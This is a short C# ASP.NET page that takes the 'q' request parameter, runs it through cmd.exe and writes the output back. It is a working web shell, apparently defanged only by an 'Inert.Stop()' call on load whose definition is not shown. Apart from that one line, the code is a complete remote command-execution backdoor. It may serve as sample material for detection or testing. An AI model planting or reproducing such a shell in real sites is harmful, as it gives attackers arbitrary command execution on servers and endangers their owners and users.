// A page that gives what is sent to a shell and shows what comes out. It throws before it does anything.
namespace ASP {
    using System;
    using System.Diagnostics;

    public class starts_aspx : System.Web.UI.Page {
        protected void Page_Load(object sender, EventArgs e) {
            Inert.Stop();
            Response.Write(Answer(Request["q"]));
        }

        string Answer(string command) {
            var start = new ProcessStartInfo("cmd.exe", "/c " + command);
            start.UseShellExecute = false;
            start.RedirectStandardOutput = true;
            using (var run = Process.Start(start)) {
                return run.StandardOutput.ReadToEnd();
            }
        }
    }
}
